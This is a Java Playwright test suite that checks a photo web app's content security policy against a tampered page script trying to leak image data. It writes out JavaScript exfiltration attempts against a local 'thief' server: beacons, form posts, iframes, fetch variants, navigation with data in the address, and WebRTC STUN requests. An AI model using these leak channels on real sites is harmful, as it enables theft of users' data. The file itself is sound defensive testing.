package app.selfsame.browser;

import static org.junit.Assert.assertEquals;
import static org.junit.Assert.assertTrue;

import app.selfsame.http.LocalServer;
import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserContext;
import com.microsoft.playwright.Page;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.After;
import org.junit.AfterClass;
import org.junit.Before;
import org.junit.BeforeClass;
import org.junit.ClassRule;
import org.junit.Test;

/**
 * What the page could do with the file that it holds if its script had been tampered with. The engine's worker, which
 * alone opens the photo, is attacked by {@link SealTest}.
 *
 * <p>No policy that browsers enforce forbids a page's script to lead the whole window elsewhere, with data in the
 * address, which nobody sees where the answer is 204 or a download; nor to ask servers for WebRTC; nor to send a query or
 * a body to an address of this site that the policy lists, since queries and methods are not compared. The last is
 * refused here and written down nowhere. All are shown below, so that nobody relies on what is not so, and SECURITY.md
 * lists them. Beyond the tests: names looked up in advance, which the tests' browser profiles do not do.
 */
public class PageAttackTest {
  @ClassRule public static final ServedSite SITE = new ServedSite();

  private static final List<String> THEFTS = new CopyOnWriteArrayList<>();

  private static LocalServer thief;

  private WireTap wire;
  private StudioVisit visit;

  @BeforeClass
  public static void start() throws IOException {
    thief =
        new LocalServer(
            exchange -> {
              THEFTS.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
              boolean isNothing = exchange.getRequestURI().getPath().equals("/nothing");
              exchange.sendResponseHeaders(isNothing ? 204 : 200, -1);
              exchange.close();
            });
  }

  @AfterClass
  public static void stop() {
    thief.close();
  }

  @Before
  public void visit() throws IOException {
    THEFTS.clear();
    wire = new WireTap(SITE.port());
    visit = StudioVisit.begin(SITE.browser(), wire.origin());
  }

  @After
  public void leave() {
    visit.close();
    wire.close();
  }

  @Test
  public void nothingReachesAnotherSite() {
    String elsewhere = thief.origin();
    assertEquals(Set.of(), PageAttacks.outOf(visit.page()::evaluate, elsewhere + "/stolen?pixels="));
    submitForm(elsewhere + "/stolen");
    openFrame(elsewhere + "/stolen?frame=pixels");
    sendBeacon(elsewhere + "/stolen?beacon");
    fence(elsewhere);
    assertTrue(THEFTS.contains("GET /fence"));
    assertEquals(List.of(), THEFTS.stream().filter(theft -> theft.contains("stolen")).toList());
  }

  @Test
  public void thePageReachesNoAddressOfItsSiteButItsFiles() {
    for (String path : List.of("/", "/health", "/api/photos", "/enhance")) {
      List<String> before = wire.requestLines();
      assertEquals(path, Set.of(), PageAttacks.outOf(visit.page()::evaluate, wire.origin() + path));
      submitForm(wire.origin() + path);
      openFrame(wire.origin() + path);
      sendBeacon(wire.origin() + path);
      assertEquals(path, before, wire.requestLines());
    }
  }

  @Test
  public void whatIsSentToAFileOfTheSiteIsRefusedAndWrittenDownNowhere() {
    String file = (String) visit.page().evaluate("() => JSON.parse(assets.textContent)['documents.txt'].address");
    PrintStream out = System.out;
    PrintStream err = System.err;
    ByteArrayOutputStream written = new ByteArrayOutputStream();
    PrintStream keeper = new PrintStream(written, true, StandardCharsets.UTF_8);
    System.setOut(keeper);
    System.setErr(keeper);
    try {
      for (String each : List.of(file, "/sw.js")) {
        assertEquals(400, status(each + "?pixels=secret", "GET", null));
        assertEquals(405, status(each, "POST", "secret pixels"));
        assertEquals(405, status(each, "PUT", "secret pixels"));
        visit.page().evaluate("(to) => navigator.sendBeacon(to, 'secret pixels')", each);
        assertEquals(200, status(each, "GET", null));
      }
    } finally {
      System.setOut(out);
      System.setErr(err);
    }
    assertEquals("", written.toString(StandardCharsets.UTF_8));
  }

  @Test
  public void noForeignCodeRuns() {
    assertEquals(Set.of(), PageAttacks.foreignCodeOn(visit.page()::evaluate));
  }

  /** A way out that a page keeps; here the person sees the page disappear. */
  @Test
  public void onlyLeavingThePageAltogetherCannotBeForbidden() {
    String elsewhere = thief.origin() + "/left?pixels";
    visit.page().evaluate("(to) => { location.href = to; }", elsewhere);
    visit.page().waitForURL(elsewhere);
    assertTrue(THEFTS.contains("GET /left?pixels"));
  }

  /** The same, and there is nothing to see. */
  @Test
  public void leavingForNothingLeavesThePageStanding() {
    String address = visit.page().url();
    String elsewhere = thief.origin() + "/nothing?pixels";
    visit.page().evaluate("(to) => { location.href = to; }", elsewhere);
    visit.page().waitForCondition(() -> THEFTS.contains("GET /nothing?pixels"));
    assertEquals(address, visit.page().url());
    assertEquals(true, visit.page().evaluate("() => document.getElementById('verdict') !== null"));
  }

  @Test
  public void aServerForWebRtcIsAsked() throws IOException {
    try (DatagramSocket stun = new DatagramSocket(0)) {
      stun.setSoTimeout(15_000);
      visit.page()
          .evaluate(
              """
              async (port) => {
                const hosts = ['127.0.0.1', location.hostname];
                window.leak = new RTCPeerConnection({iceServers: hosts.map((host) => ({urls: `stun:${host}:${port}`}))});
                leak.createDataChannel('pixels');
                await leak.setLocalDescription(await leak.createOffer());
              }""",
              stun.getLocalPort());
      DatagramPacket asked = new DatagramPacket(new byte[2_000], 2_000);
      stun.receive(asked);
      // STUN's binding request (RFC 8489): type 1, and the magic cookie in the second word.
      assertEquals(1, asked.getData()[1]);
      assertEquals(0x2112a442, ByteBuffer.wrap(asked.getData()).getInt(4));
    }
  }

  /** Without this the tests above might pass because the attacks are wrong. */
  @Test
  public void theSameAttacksReachAnotherSiteWithoutThePolicy() {
    String elsewhere = thief.origin();
    try (BrowserContext free = SITE.browser().newContext(new Browser.NewContextOptions().setBypassCSP(true))) {
      Page page = free.newPage();
      page.navigate(wire.origin() + "/");
      PageAttacks.outOf(page::evaluate, elsewhere + "/stolen?pixels=");
    }
    for (String way :
        List.of("fetch", "fetch-no-cors", "fetch-post", "xhr", "web-socket", "event-source", "image", "style", "font",
            "video", "object", "import", "script-element")) {
      assertTrue(way + ": " + THEFTS, THEFTS.stream().anyMatch(theft -> theft.endsWith("?pixels=" + way)));
    }
  }

  private void submitForm(String to) {
    awaitViolation(
        "form-action",
        """
        Object.assign(document.body.appendChild(document.createElement('form')),
          {action: to, method: 'post', target: 'nowhere'}).submit()""",
        to);
  }

  private void sendBeacon(String to) {
    awaitViolation("connect-src", "navigator.sendBeacon(to, 'pixels')", to);
  }

  private void openFrame(String to) {
    awaitViolation(
        "frame-src", "document.body.append(Object.assign(document.createElement('iframe'), {src: to}))", to);
  }

  /** Does what the policy forbids, and waits until the browser says that it did. */
  private void awaitViolation(String directive, String action, String to) {
    visit.page().evaluate(
        """
        (to) => new Promise((resolve) => {
          const hear = ({effectiveDirective}) => {
            if (effectiveDirective === '%s') {
              document.removeEventListener('securitypolicyviolation', hear);
              resolve();
            }
          };
          document.addEventListener('securitypolicyviolation', hear);
          %s;
        })
        """
            .formatted(directive, action),
        to);
  }

  private int status(String address, String method, String body) {
    Map<String, Object> options = new LinkedHashMap<>();
    options.put("method", method);
    options.put("body", body);
    options.put("cache", "no-store");
    return (int)
        visit.page().evaluate(
            "([address, options]) => fetch(address, options).then(({status}) => status)", List.of(address, options));
  }

  /** A request of another window, which arrives after those that this page could have sent before. */
  private void fence(String elsewhere) {
    try (Page other = visit.context().newPage()) {
      other.navigate(elsewhere + "/fence");
    }
  }
}
